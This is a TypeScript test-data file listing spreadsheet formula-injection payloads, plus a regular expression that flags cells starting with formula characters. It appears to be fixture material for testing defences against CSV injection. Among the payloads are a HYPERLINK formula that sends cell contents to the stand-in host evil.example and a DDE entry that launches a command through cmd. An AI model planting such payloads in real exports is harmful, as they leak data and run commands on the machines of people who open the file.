/** Test data (never imported by production code): cell values a spreadsheet would evaluate. */

/** Payloads that a spreadsheet would evaluate, or that try to leave their cell. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\tcmd",
  "\rcmd",
  "\ncmd",
  "\0=1+1",
  " =1+1",
  "  +SUM(1)",
  "\u00a0@cmd",
  '=cmd|"/c calc"!A1',
  ",=1+1",
  '"=1+1',
  "'=1+1",
] as const;

/** A parsed cell that a spreadsheet would act on: a formula lead, or blanks and then one. */
export const DANGEROUS_FIRST = /^[=+\-@\t\r\n\0]|^\s+[=+\-@]/;
